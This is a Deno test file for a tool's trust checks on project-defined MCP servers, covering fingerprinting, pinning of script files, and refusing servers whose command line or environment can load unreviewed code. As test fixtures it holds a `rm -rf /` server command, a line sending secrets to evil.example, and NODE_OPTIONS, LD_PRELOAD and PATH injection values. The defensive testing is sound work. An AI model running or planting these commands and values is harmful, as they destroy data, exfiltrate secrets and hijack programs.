import assert from "node:assert/strict";
import { join } from "node:path";
import { ConfigError } from "../../src/config/errors.ts";
import { pinnedFiles } from "../../src/mcp/_pinned_files.ts";
import { loadTrust, loadTrustCheck, trustServers, untrustServers } from "../../src/mcp/trust.ts";
import { byName, withMcpConfig } from "./_config_fixture.ts";

Deno.test("loadTrust() trusts user servers and no project server before trustServers()", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("home/.tern/mcp.json", `{ "servers": { "mine": { "command": "x" } } }`);
    write(
      "ws/.mcp.json",
      `{ "mcpServers": { "theirs": { "command": "rm", "args": ["-rf", "/"] } } }`,
    );
    const { servers } = await load();
    const trusted = await loadTrust(ternHome, workspace);
    assert.equal(trusted(byName(servers, "mine")), true);
    assert.equal(trusted(byName(servers, "theirs")), false);
    // Nothing was written just by looking.
    await assert.rejects(Deno.stat(join(ternHome, "mcp-trust.json")), Deno.errors.NotFound);
  });
});

Deno.test("trustServers() trusts a project server until its definition changes", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/.mcp.json", `{ "mcpServers": { "a": { "command": "x", "args": ["1"] } } }`);
    const [before] = (await load()).servers;
    await trustServers(ternHome, workspace, [before]);
    assert.equal((await loadTrust(ternHome, workspace))(before), true);

    // Reformatted and with a different variable value: still the same definition.
    write(
      "ws/.mcp.json",
      `{\n  "mcpServers": {\n    "a": { "args": [ "1" ], "command": "x" }\n  }\n}`,
    );
    const [same] = (await load()).servers;
    assert.equal((await loadTrust(ternHome, workspace))(same), true);

    write("ws/.mcp.json", `{ "mcpServers": { "a": { "command": "x", "args": ["1", "--all"] } } }`);
    const [changed] = (await load()).servers;
    assert.equal((await loadTrust(ternHome, workspace))(changed), false);
    await trustServers(ternHome, workspace, [changed]);
    assert.equal((await loadTrust(ternHome, workspace))(changed), true);
    assert.equal((await loadTrust(ternHome, workspace))(before), false);

    // The same definition in another workspace is not trusted there.
    assert.equal((await loadTrust(ternHome, join(workspace, "other")))(changed), false);
  });
});

Deno.test("trustServers() writes an owner-only file and keeps other workspaces", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write(
      "ws/.mcp.json",
      `{ "mcpServers": { "a": { "command": "x" }, "b": { "url": "http://h/" } } }`,
    );
    write("home/.tern/mcp.json", `{ "servers": { "u": { "command": "x" } } }`);
    const { servers } = await load();
    const file = join(ternHome, "mcp-trust.json");
    Deno.writeTextFileSync(
      file,
      JSON.stringify({ version: 1, workspaces: { "/elsewhere": { "a": "f".repeat(64) } } }),
    );
    Deno.chmodSync(file, 0o644);
    await trustServers(ternHome, workspace, servers);

    assert.equal(Deno.statSync(file).mode! & 0o777, 0o600);
    const a = byName(servers, "a");
    const b = byName(servers, "b");
    assert.deepEqual(JSON.parse(Deno.readTextFileSync(file)), {
      version: 1,
      workspaces: {
        "/elsewhere": { a: "f".repeat(64) },
        [workspace]: { a: a.fingerprint, b: b.fingerprint },
      },
    });
    // No temporary file is left next to it.
    assert.deepEqual([...Deno.readDirSync(ternHome)].map((entry) => entry.name).sort(), [
      "mcp-trust.json",
      "mcp.json",
    ]);
  });
});

Deno.test("trustServers() creates tern's home when it does not exist yet", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/.mcp.json", `{ "mcpServers": { "a": { "command": "x" } } }`);
    const { servers } = await load();
    const home = join(ternHome, "fresh");
    await trustServers(home, workspace, servers);
    assert.equal((await loadTrust(home, workspace))(servers[0]), true);
    assert.equal(Deno.statSync(join(home, "mcp-trust.json")).mode! & 0o777, 0o600);
  });
});

Deno.test("untrustServers() removes the named servers, or all of a workspace's", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write(
      "ws/.mcp.json",
      `{ "mcpServers": { "a": { "command": "x" }, "b": { "command": "y" }, "c": { "command": "z" } } }`,
    );
    const { servers } = await load();
    const elsewhere = join(workspace, "other");
    await trustServers(ternHome, workspace, servers);
    await trustServers(ternHome, elsewhere, servers);

    await untrustServers(ternHome, workspace, ["a", "not-there"]);
    let trusted = await loadTrust(ternHome, workspace);
    assert.deepEqual(servers.map(trusted), [false, true, true]);

    await untrustServers(ternHome, workspace, []);
    trusted = await loadTrust(ternHome, workspace);
    assert.deepEqual(servers.map(trusted), [false, false, false]);
    const record = JSON.parse(Deno.readTextFileSync(join(ternHome, "mcp-trust.json")));
    assert.deepEqual(Object.keys(record.workspaces), [elsewhere]);
    assert.deepEqual(servers.map(await loadTrust(ternHome, elsewhere)), [true, true, true]);
  });
});

Deno.test("loadTrust() rejects a damaged trust file with a ConfigError naming it", async () => {
  await withMcpConfig(async ({ ternHome, workspace }) => {
    const file = join(ternHome, "mcp-trust.json");
    const cases: [string, RegExp][] = [
      ["{ not json", /: not valid JSON — delete the file and trust the project servers again/],
      [`{ "version": 2, "workspaces": {} }`, /: "version": expected 1, got 2 — delete the file/],
      [
        `{ "version": 1, "workspaces": { "/w": { "a": 1 } } }`,
        /"workspaces\.\/w\.a": expected a fingerprint string/,
      ],
    ];
    for (const [text, message] of cases) {
      Deno.writeTextFileSync(file, text);
      await assert.rejects(loadTrust(ternHome, workspace), (error) => {
        assert.ok(error instanceof ConfigError);
        assert.equal(error.file, file);
        assert.match(error.message, new RegExp(`^Invalid MCP trust file "${file}"`));
        assert.match(error.message, message);
        return true;
      });
    }
  });
});

Deno.test("pinnedFiles() pins the workspace files a command line names, not programs or other text", async () => {
  await withMcpConfig(async ({ workspace, write }) => {
    write("ws/server.js", "a");
    write("ws/tools/srv.py", "b");
    write("ws/x.ts", "c");
    write("ws/cfg.json", "d");
    const pins = await pinnedFiles(
      [
        "node",
        "./server.js",
        "tools/srv.py",
        "x.ts",
        "--config=cfg.json",
        "-A",
        "https://example.com/x.js",
        "../outside.js",
        "/usr/bin/env",
        "later.py",
        "build/out.js",
        "plain-word",
      ],
      workspace,
      workspace,
    );
    const sha = async (text: string) =>
      Array.from(
        new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))),
        (byte) => byte.toString(16).padStart(2, "0"),
      ).join("");
    assert.deepEqual(pins, {
      "server.js": await sha("a"),
      "tools/srv.py": await sha("b"),
      "x.ts": await sha("c"),
      "cfg.json": await sha("d"),
      "later.py": "missing",
      "build/out.js": "missing",
    });
    // A program written as a path inside the workspace counts too.
    write("ws/bin/run", "e");
    assert.deepEqual(Object.keys(await pinnedFiles(["./bin/run"], workspace, workspace)), [
      "bin/run",
    ]);
  });
});

Deno.test("loadTrustCheck() untrusts a server whose script changed, was created or removed, saying which", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write(
      "ws/.mcp.json",
      `{ "mcpServers": { "a": { "command": "node", "args": ["srv.js", "gen.js"] } } }`,
    );
    write("ws/srv.js", "one");
    const [trusted] = (await load()).servers;
    assert.deepEqual(Object.keys(trusted.files ?? {}).sort(), ["gen.js", "srv.js"]);
    await trustServers(ternHome, workspace, [trusted]);
    const record = JSON.parse(Deno.readTextFileSync(join(ternHome, "mcp-trust.json")));
    assert.deepEqual(record.workspaces[workspace].a.files, trusted.files);
    let check = await loadTrustCheck(ternHome, workspace);
    assert.equal(check.trusted(trusted), true);
    assert.equal(check.whyNot(trusted), undefined);

    write("ws/srv.js", "two");
    write("ws/gen.js", "made later");
    const [changed] = (await load()).servers;
    check = await loadTrustCheck(ternHome, workspace);
    assert.equal(check.trusted(changed), false);
    assert.equal(
      check.whyNot(changed),
      `"gen.js" was created, "srv.js" changed since you trusted it`,
    );

    Deno.removeSync(join(workspace, "srv.js"));
    const [removed] = (await load()).servers;
    assert.match(check.whyNot(removed) ?? "", /"srv\.js" was removed/);

    write("ws/.mcp.json", `{ "mcpServers": { "a": { "command": "node", "args": ["other.js"] } } }`);
    const [redefined] = (await load()).servers;
    assert.match(check.whyNot(redefined) ?? "", /its definition in ".*\.mcp\.json" changed/);
  });
});

Deno.test("loadTrustCheck() asks again for a server trusted before files were pinned", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/.mcp.json", `{ "mcpServers": { "a": { "command": "node", "args": ["srv.js"] } } }`);
    write("ws/srv.js", "code");
    const [server] = (await load()).servers;
    // The record as an earlier tern wrote it: the definition's fingerprint only.
    write(
      "home/.tern/mcp-trust.json",
      JSON.stringify({ version: 1, workspaces: { [workspace]: { a: server.fingerprint } } }),
    );
    const check = await loadTrustCheck(ternHome, workspace);
    assert.equal(check.trusted(server), false);
    assert.equal(check.whyNot(server), `it now runs "srv.js" since you trusted it`);
  });
});

Deno.test("loadTrustCheck() untrusts a project server with the network when any workspace file changes", async () => {
  // server.js loads lib.js: pinning the named script alone let a command (no network) rewrite
  // lib.js, and the trusted server ran it with the network at the next start.
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write(
      "ws/.mcp.json",
      JSON.stringify({
        mcpServers: {
          net: { command: "node", args: ["server.js"], sandbox: { network: true } },
          off: { command: "node", args: ["server.js"] },
        },
      }),
    );
    write("ws/server.js", 'require("./lib/lib.js")');
    write("ws/lib/lib.js", "module.exports = 1");
    const servers = (await load()).servers;
    await trustServers(ternHome, workspace, servers);
    let check = await loadTrustCheck(ternHome, workspace);
    for (const server of (await load()).servers) assert.equal(check.trusted(server), true);

    // The same content written again, its mtime set back: the change time still differs.
    const lib = join(workspace, "lib", "lib.js");
    const { mtime } = Deno.statSync(lib);
    await new Promise((resolve) => setTimeout(resolve, 20));
    write("ws/lib/lib.js", "fetch('http://evil.example/?' + secrets)");
    Deno.utimeSync(lib, mtime!, mtime!);
    const after = (await load()).servers;
    check = await loadTrustCheck(ternHome, workspace);
    assert.equal(check.trusted(byName(after, "net")), false);
    assert.match(check.whyNot(byName(after, "net")) ?? "", /files of the workspace changed/);
    // Without the network, the server keeps its trust: only what it names is pinned.
    assert.equal(check.trusted(byName(after, "off")), true);
  });
});

Deno.test("a project server whose command line gives its code as text can never be trusted", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/srv/index.js", "console.log('reviewed')\n");
    write(
      "ws/.mcp.json",
      JSON.stringify({
        mcpServers: {
          shell: { command: "bash", args: ["-c", "cd srv && node index.js"] },
          moved: { command: "env", args: ["-C", "srv", "node", "index.js"] },
          plain: { command: "node", args: ["srv/index.js"] },
        },
      }),
    );
    const { servers } = await load();
    await trustServers(ternHome, workspace, servers);
    const check = await loadTrustCheck(ternHome, workspace);
    for (const name of ["shell", "moved"]) {
      assert.equal(check.trusted(byName(servers, name)), false, name);
      assert.match(
        check.whyNot(byName(servers, name)) ?? "",
        /"the command line" cannot be pinned \(tern cannot tell which files it runs: /,
      );
    }
    // Written as a script, what runs is pinned, and trust holds.
    assert.equal(check.trusted(byName(servers, "plain")), true);
  });
});

Deno.test("a project server whose env makes its program load other code can never be trusted", async () => {
  // Review finding: "env": {"NODE_OPTIONS": "--require ./lib/evil.js"} made Node load a file
  // trust never pinned.
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/srv/server.js", "console.log('reviewed')\n");
    const server = (env: Record<string, string>) => ({
      command: "node",
      args: ["srv/server.js"],
      env,
    });
    write(
      "ws/.mcp.json",
      JSON.stringify({
        mcpServers: {
          node: server({ NODE_OPTIONS: "--require ./lib/evil.js" }),
          python: server({ PYTHONPATH: "lib" }),
          preload: server({ LD_PRELOAD: "./lib/evil.so" }),
          path: server({ PATH: "./bin:/usr/bin" }),
          npm: server({ npm_config_node_options: "--require ./lib/evil.js" }),
          plain: server({ LOG_LEVEL: "debug", NODE_ENV: "production" }),
        },
      }),
    );
    const { servers } = await load();
    await trustServers(ternHome, workspace, servers);
    const check = await loadTrustCheck(ternHome, workspace);
    for (const name of ["node", "python", "preload", "path", "npm"]) {
      assert.equal(check.trusted(byName(servers, name)), false, name);
      assert.match(
        check.whyNot(byName(servers, name)) ?? "",
        /"the environment" cannot be pinned \(its "env" sets "[A-Za-z_]+", which can make the program load code/,
        name,
      );
    }
    assert.equal(check.trusted(byName(servers, "plain")), true);
  });
});

Deno.test("a project server whose script exists only under another name can never be trusted", async () => {
  // Review finding: `node srv/server` pinned "srv/server (missing)" while Node ran server.js.
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/srv/server.js", "console.log('reviewed')\n");
    write(
      "ws/.mcp.json",
      JSON.stringify({
        mcpServers: {
          bare: { command: "node", args: ["srv/server"] },
          named: { command: "node", args: ["srv/server.js"] },
        },
      }),
    );
    const { servers } = await load();
    await trustServers(ternHome, workspace, servers);
    const check = await loadTrustCheck(ternHome, workspace);
    assert.equal(check.trusted(byName(servers, "bare")), false);
    assert.match(
      check.whyNot(byName(servers, "bare")) ?? "",
      /its script "srv\/server" does not exist as named/,
    );
    assert.equal(check.trusted(byName(servers, "named")), true);
  });
});

Deno.test("a project deno server pins the deno.json Deno would read", async () => {
  await withMcpConfig(async ({ ternHome, workspace, write, load }) => {
    write("ws/srv/server.ts", 'import "./helper.ts";\n');
    write("ws/srv/helper.ts", "console.log(1);\n");
    write(
      "ws/.mcp.json",
      JSON.stringify({ mcpServers: { d: { command: "deno", args: ["run", "srv/server.ts"] } } }),
    );
    await trustServers(ternHome, workspace, (await load()).servers);
    write("ws/deno.json", JSON.stringify({ imports: { "./srv/helper.ts": "./evil.ts" } }));
    const [after] = (await load()).servers;
    const check = await loadTrustCheck(ternHome, workspace);
    assert.equal(check.trusted(after), false);
    assert.match(check.whyNot(after) ?? "", /"deno\.json" was created/);
  });
});
